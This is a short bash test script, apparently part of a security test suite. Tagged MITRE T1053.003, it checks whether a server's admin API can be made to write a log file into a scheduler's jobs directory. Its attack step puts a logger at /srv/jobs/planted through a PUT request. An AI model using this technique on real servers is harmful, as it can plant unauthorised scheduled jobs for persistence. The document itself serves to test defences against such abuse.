# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1053.003
about="the API adds a log among the jobs of a scheduler"
before() {
	mkdir -p /srv/jobs
	chmod 777 /srv/jobs
}
attack() {
	api PUT /config/logging/logs/evil '{"writer":{"output":"file","filename":"/srv/jobs/planted"},"level":"DEBUG"}'
	ask http://127.0.0.1:8080/index.html
	perhaps effect
}
effect() { [ -e /srv/jobs/planted ]; }
after() { rm -rf /srv/jobs; }
